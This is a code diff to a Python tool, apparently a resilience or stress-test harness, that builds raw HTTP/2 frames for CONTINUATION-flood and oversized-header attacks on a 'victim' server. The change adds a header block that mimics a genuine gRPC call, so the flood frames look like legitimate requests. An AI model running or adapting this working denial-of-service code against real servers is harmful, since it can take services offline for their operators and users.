@@ -208,16 +208,29 @@ def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
     return struct.pack(">I", len(content))[1:] + struct.pack(">BBI", kind, flags, stream) + content
 
 
+def text(value: bytes) -> bytes:
+    return bytes([len(value)]) + value
+
+
 def field(number: int) -> bytes:
     """Return a header that is not indexed, with a name and a value of its own."""
-    name, value = f"x-{number:06d}".encode(), b"v" * 100
-    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+    return b"\x00" + text(f"x-{number:06d}".encode()) + text(b"v" * 100)
+
+
+# The headers of a call that gRPC would serve: POST, http, the path, the authority, the content type and te.
+CALL = (
+    *(b"\x83\x86", b"\x04" + text(STREAM.encode()), b"\x01" + text(b"localhost")),
+    *(b"\x0f\x10" + text(b"application/grpc"), b"\x00" + text(b"te") + text(b"trailers")),
+)
+HEAD = frame(HEADERS, 0, 1, b"".join(CALL))
 
 
 @contextlib.contextmanager
 def line_to(address: str) -> Iterator[socket.socket]:
     host, _, port = address.rpartition(":")
     with socket.create_connection((host, int(port)), timeout=DEADLINE) as line:
+        line.settimeout(None)
+        line.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 1, 0))  # seconds
         line.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
         reader = threading.Thread(target=_read_on, args=(line,))
         reader.start()
@@ -253,7 +266,7 @@ def continuation_flood(victim: Victim) -> str:
     @contextlib.contextmanager
     def begun() -> Iterator[socket.socket]:
         with line_to(victim.address) as line:
-            line.sendall(frame(HEADERS, 0, 1, field(0)))
+            line.sendall(HEAD)
             yield line
 
     return flooding(begun, content)
@@ -261,9 +274,8 @@ def continuation_flood(victim: Victim) -> str:
 
 def large_headers(victim: Victim) -> str:
     """1 MiB of headers on each of eight connections."""
-    head = frame(HEADERS, 0, 1, field(0))
     parts = [frame(CONTINUATION, 0, 1, field(number) * 140) for number in range(66)]
-    content = head + b"".join(parts) + frame(CONTINUATION, END_HEADERS, 1, b"")
+    content = HEAD + b"".join(parts) + frame(CONTINUATION, END_HEADERS, 1, b"")
     with contextlib.ExitStack() as until_the_end:
         lines = [until_the_end.enter_context(line_to(victim.address)) for _ in range(8)]
         for line in lines:
